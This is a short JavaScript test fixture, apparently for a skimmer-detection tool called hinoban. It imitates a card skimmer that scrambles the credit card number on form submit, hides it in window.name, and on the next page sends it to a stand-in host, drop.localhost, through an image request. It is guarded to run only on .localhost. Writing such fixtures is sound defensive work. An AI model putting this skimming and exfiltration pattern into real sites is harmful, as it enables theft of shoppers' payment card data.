/* Harmless imitation, for hinoban's tests: kept in window.name, sent from the next page. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
(function () {
	function mix(v) { return v.split('').map(function (c, i) { return 'hjkmnpqrst'[(+c + i) % 10]; }).join(''); }
	document.addEventListener('submit', function () {
		var n = document.querySelector('input[autocomplete=cc-number]');
		if (!n) return;
		window.name = 'w' + mix(n.value);
	}, true);
	if (/^w[a-z]{16}$/.test(window.name)) {
		new Image().src = 'http://drop.localhost:' + location.port + '/p.gif?w=' + window.name;
		window.name = '';
	}
})();
